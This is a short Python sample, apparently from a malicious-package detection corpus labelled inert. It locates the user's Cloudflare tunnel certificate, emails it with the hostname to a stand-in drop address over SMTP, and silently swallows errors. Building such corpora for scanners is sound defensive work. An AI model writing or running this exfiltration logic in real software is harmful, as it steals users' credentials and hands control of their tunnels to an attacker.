# pkgguard corpus 859 (credentials), modelled on [empirical]; inert, never run.
import os
import smtplib
from email.message import EmailMessage

cert = os.path.join(os.path.expanduser("~"), ".cloudflared", "cert.pem")
if os.path.exists(cert):
    message = EmailMessage()
    message["From"] = "build@mail.example"
    message["To"] = "drop@mail.example"
    message["Subject"] = os.uname().nodename
    with open(cert, "rb") as fh:
        message.add_attachment(fh.read(), maintype="application", subtype="x-pem-file", filename="cert.pem")
    try:
        with smtplib.SMTP_SSL("smtp.mail.example", 465, timeout=5) as smtp:
            smtp.login("build@mail.example", "placeholder")
            smtp.send_message(message)
    except (OSError, smtplib.SMTPException):
        pass
